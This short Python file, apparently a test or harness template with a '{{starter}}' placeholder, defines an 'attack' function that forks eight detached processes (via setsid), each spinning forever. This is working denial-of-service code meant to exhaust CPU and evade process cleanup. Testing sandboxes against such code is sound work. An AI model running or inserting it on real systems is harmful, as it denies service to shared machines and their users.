import os


def attack(*_):
    for _ in range(8):
        if os.fork() == 0:
            os.setsid()
            while True:
                pass


{{starter}}
